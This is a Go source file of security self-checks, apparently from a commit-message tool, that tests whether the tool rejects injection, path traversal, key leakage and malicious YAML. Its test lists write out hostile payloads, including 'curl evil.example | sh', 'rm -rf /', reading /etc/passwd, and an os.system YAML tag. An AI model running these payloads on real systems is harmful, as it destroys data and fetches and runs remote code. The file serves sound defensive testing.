package selftest

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"time"

	"github.com/dshills/smartcommits/internal/cache"
	"github.com/dshills/smartcommits/internal/commitgen"
	"github.com/dshills/smartcommits/internal/config"
	"github.com/dshills/smartcommits/internal/hook"
	"github.com/dshills/smartcommits/internal/redact"
	"github.com/dshills/smartcommits/internal/secerr"
	"github.com/dshills/smartcommits/internal/secexec"
	"github.com/dshills/smartcommits/internal/validate"
	"github.com/rs/zerolog"
)

var injectionPayloads = []string{
	"; rm -rf /",
	"&& curl evil.example | sh",
	"| cat /etc/passwd",
	"`whoami`",
	"$(whoami)",
}

func checkCommandInjection(ctx context.Context, e *env) Result {
	dir, err := e.repo("injection")
	if err != nil {
		return errored("cannot create scratch repository")
	}

	var found []string
	for _, p := range injectionPayloads {
		path := dir + p
		if _, err := validate.RepoPath(path); err == nil {
			found = append(found, fmt.Sprintf("repository path accepted: %q", p))
		}
		if _, err := (config.Loader{Root: path, Env: config.MapEnv{}}).Load(); err == nil {
			found = append(found, fmt.Sprintf("configuration loaded from: %q", p))
		}
	}

	// Arguments reach the child verbatim; a shell would run the touch.
	marker := filepath.Join(dir, "injected")
	_, _ = e.opts.Runner.Run(ctx, []string{"git", "--version; touch " + marker},
		secexec.WithDir(dir), secexec.WithTimeout(10*time.Second))
	if _, err := os.Stat(marker); err == nil {
		found = append(found, "subprocess argument was interpreted by a shell")
	}

	if len(found) > 0 {
		return vulnerable(SeverityHigh, "command injection possible", found...)
	}
	return safe("injection payloads rejected")
}

func checkPathTraversal(_ context.Context, e *env) Result {
	dir, err := e.repo("traversal")
	if err != nil {
		return errored("cannot create scratch repository")
	}

	var found []string
	for _, p := range []string{"../../../etc/passwd", "sub/../../outside", filepath.Join(e.root, "elsewhere")} {
		if _, err := validate.FilePath(dir, p); !errors.Is(err, secerr.ErrPathTraversal) {
			found = append(found, fmt.Sprintf("path accepted: %q", p))
		}
	}

	outside := filepath.Join(e.root, "outside")
	if err := os.MkdirAll(outside, 0o700); err != nil {
		return errored("cannot create scratch directory")
	}
	if err := os.Symlink(outside, filepath.Join(dir, "link")); err == nil {
		if _, err := validate.FilePath(dir, "link/secret"); err == nil {
			found = append(found, "symlink escape accepted")
		}
	}

	if len(found) > 0 {
		return vulnerable(SeverityHigh, "path traversal possible", found...)
	}
	return safe("paths outside the repository rejected")
}

func checkAPIKeyExposure(_ context.Context, e *env) Result {
	dir, err := e.repo("apikey")
	if err != nil {
		return errored("cannot create scratch repository")
	}
	key := "gsk_" + strings.Repeat("Tq7x", 10)
	if err := os.WriteFile(filepath.Join(dir, config.EnvFileName), []byte("GROQ_API_KEY="+key+"\n"), 0o600); err != nil {
		return errored("cannot write scratch env file")
	}

	loaded, err := config.Loader{Root: dir, Env: config.MapEnv{}}.Load()
	if err != nil {
		return errored("configuration failed to load", err.Error())
	}

	var found []string
	views := map[string]string{
		"%v":      fmt.Sprintf("%v", loaded),
		"%+v":     fmt.Sprintf("%+v", loaded),
		"%#v":     fmt.Sprintf("%#v", loaded),
		"config":  fmt.Sprintf("%+v", loaded.Config),
		"display": fmt.Sprintf("%v", loaded.Display()),
	}
	for name, s := range views {
		if strings.Contains(s, key) {
			found = append(found, "key visible in "+name)
		}
	}

	var buf bytes.Buffer
	lg := zerolog.New(redact.Writer(&buf))
	lg.Info().Str("api_key", key).Msg("provider configured")
	lg.Info().Msgf("Authorization: Bearer %s", key)
	if strings.Contains(buf.String(), key) {
		found = append(found, "key visible in log output")
	}

	badDir, err := e.repo("apikey-invalid")
	if err != nil {
		return errored("cannot create scratch repository")
	}
	bad := "not a valid key: " + key
	badLoad, err := config.Loader{Root: badDir, Env: config.MapEnv{"GROQ_API_KEY": bad}}.Load()
	if err != nil {
		return errored("configuration failed to load", err.Error())
	}
	if _, err := badLoad.APIKey(); err == nil {
		found = append(found, "malformed key accepted")
	} else if strings.Contains(err.Error(), key) {
		found = append(found, "key visible in validation error")
	}

	if len(found) > 0 {
		return vulnerable(SeverityHigh, "API key exposed", found...)
	}
	return safe("API key masked in output and logs")
}

func checkFilePermissions(_ context.Context, e *env) Result {
	if runtime.GOOS == "windows" {
		return skipped("permission bits are not meaningful on windows")
	}
	dir, err := e.repo("perms")
	if err != nil {
		return errored("cannot create scratch repository")
	}
	gitDir := filepath.Join(dir, ".git")

	var found []string
	hookPath, err := hook.Install(gitDir, "smartcommits", true)
	if err != nil {
		return errored("hook install failed", err.Error())
	}
	if info, err := os.Stat(hookPath); err == nil {
		perm := info.Mode().Perm()
		if perm&0o022 != 0 {
			found = append(found, fmt.Sprintf("hook is group or world writable (%04o)", perm))
		}
		if perm&0o100 == 0 {
			found = append(found, fmt.Sprintf("hook is not executable (%04o)", perm))
		}
	}

	secret := filepath.Join(dir, "secret")
	if err := secexec.WriteFile(secret, []byte("x"), 0); err != nil {
		return errored("secure write failed", err.Error())
	}
	if info, err := os.Stat(secret); err == nil && info.Mode().Perm()&0o077 != 0 {
		found = append(found, fmt.Sprintf("secure write left mode %04o", info.Mode().Perm()))
	}

	c, err := cache.New(true, cache.Dir(gitDir), cache.DefaultTTL)
	if err != nil {
		return errored("cache init failed", err.Error())
	}
	if err := c.Put("probe", "groq", "feat: probe"); err != nil {
		return errored("cache write failed", err.Error())
	}
	if info, err := os.Stat(c.Dir()); err == nil && info.Mode().Perm()&0o077 != 0 {
		found = append(found, fmt.Sprintf("cache directory mode %04o", info.Mode().Perm()))
	}

	if len(found) > 0 {
		return vulnerable(SeverityMedium, "insecure file permissions", found...)
	}
	return safe("files written with restrictive permissions")
}

var maliciousMessages = []string{
	"'; DROP TABLE commits; --",
	"<script>alert('xss')</script>",
	"../../../../etc/passwd",
	"\x00\x01\x02\x03",
	strings.Repeat("A", 10000),
}

func checkInputValidation(_ context.Context, _ *env) Result {
	var found []string
	for _, m := range maliciousMessages {
		label := m
		if len(label) > 32 {
			label = label[:32] + "..."
		}
		if validate.CommitMessage(m) {
			found = append(found, fmt.Sprintf("message accepted: %q", label))
		}
		cleaned := commitgen.Clean(m, 72)
		if len(cleaned) > 72 {
			found = append(found, fmt.Sprintf("cleaned message exceeds limit: %q", label))
		}
		if strings.Contains(cleaned, m) {
			found = append(found, fmt.Sprintf("cleaned message kept payload: %q", label))
		}
	}
	if len(found) > 0 {
		return vulnerable(SeverityMedium, "malicious commit messages accepted", found...)
	}
	return safe("malicious commit messages rejected")
}

func checkYAMLInjection(_ context.Context, e *env) Result {
	dir, err := e.repo("yaml")
	if err != nil {
		return errored("cannot create scratch repository")
	}
	payload := "api: !!python/object/apply:os.system [\"echo injected\"]\n"
	if err := os.WriteFile(filepath.Join(dir, config.FileName), []byte(payload), 0o600); err != nil {
		return errored("cannot write scratch configuration")
	}

	_, err = config.Loader{Root: dir, Env: config.MapEnv{}}.Load()
	switch {
	case err == nil:
		return vulnerable(SeverityHigh, "configuration with an executable tag was accepted")
	case secerr.CategoryOf(err) != secerr.CategoryConfigMalformed:
		return vulnerable(SeverityHigh, "unexpected error for executable tag", string(secerr.CategoryOf(err)))
	}
	return safe("non-core YAML tags rejected")
}

var sensitivePatterns = []*regexp.Regexp{
	regexp.MustCompile(`/home/[^/\s]+`),
	regexp.MustCompile(`/Users/[^/\s]+`),
	regexp.MustCompile(`(?i)C:\\Users\\[^\\\s]+`),
	regexp.MustCompile(`(?i)password`),
	regexp.MustCompile(`(?i)secret`),
	regexp.MustCompile(`(?i)\bkey\b`),
}

func checkInformationDisclosure(_ context.Context, e *env) Result {
	dir, err := e.repo("disclosure")
	if err != nil {
		return errored("cannot create scratch repository")
	}
	if err := os.WriteFile(filepath.Join(dir, config.FileName), []byte("invalid: yaml: content: ["), 0o600); err != nil {
		return errored("cannot write scratch configuration")
	}

	_, err = config.Loader{Root: dir, Env: config.MapEnv{}}.Load()
	if err == nil {
		return errored("malformed configuration was accepted")
	}
	msg := err.Error()

	var found []string
	for _, p := range sensitivePatterns {
		if p.MatchString(msg) {
			found = append(found, "error matches "+p.String())
		}
	}
	if strings.Contains(msg, e.root) {
		found = append(found, "error contains the repository path")
	}
	if len(found) > 0 {
		return vulnerable(SeverityMedium, "error message discloses details", found...)
	}
	return safe("error messages are generic")
}

// govulncheckFound is govulncheck's exit status when vulnerabilities are
// reported.
const govulncheckFound = 3

func checkDependencies(ctx context.Context, e *env) Result {
	tool, err := e.opts.LookPath("govulncheck")
	if err != nil {
		return skipped("govulncheck not installed")
	}
	bin := e.opts.Executable
	if bin == "" {
		if bin, err = os.Executable(); err != nil {
			return errored("cannot locate the running binary")
		}
	}

	res, err := e.opts.Runner.Run(ctx, []string{tool, "-mode=binary", bin}, secexec.WithTimeout(2*time.Minute))
	if err == nil {
		return safe("no known vulnerabilities in dependencies")
	}
	if code, ok := secerr.ExitCode(err); ok && code == govulncheckFound {
		return vulnerable(SeverityHigh, "vulnerable dependencies found", firstLines(res.Stdout, 10)...)
	}
	return errored("govulncheck failed", secerr.Normalize(err).Error())
}

func firstLines(s string, n int) []string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if l = strings.TrimSpace(l); l == "" {
			continue
		}
		out = append(out, l)
		if len(out) == n {
			break
		}
	}
	return out
}
